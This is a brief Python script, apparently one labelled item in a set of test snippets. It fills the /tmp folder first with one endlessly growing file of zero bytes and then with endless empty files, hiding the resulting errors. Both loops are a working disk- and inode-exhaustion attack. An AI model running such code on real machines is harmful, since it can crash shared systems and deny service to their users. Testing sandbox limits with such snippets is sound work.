# d: fills its folder with bytes and with files
# %%
try:
    with open("/tmp/big", "wb") as file:
        while True:
            file.write(bytes(10**6))
except OSError:
    pass
# %%
import itertools

try:
    for number in itertools.count():
        open(f"/tmp/{number}", "w").close()
except OSError:
    pass
